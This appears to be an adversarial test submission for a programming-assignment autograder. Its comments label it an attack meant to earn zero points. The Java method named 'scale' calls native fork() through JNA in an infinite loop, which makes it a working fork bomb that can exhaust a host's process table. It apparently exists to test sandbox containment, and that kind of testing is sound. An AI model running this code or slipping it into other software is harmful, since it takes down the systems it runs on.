// attack: forks natively, without any program
// assignment: 00-start-here
// question: scale
// earns: 0
double[] scale(int[] pixels) {
    var fork = com.sun.jna.Function.getFunction("c", "fork");
    while (true) {
        fork.invokeInt(new Object[0]);
    }
}
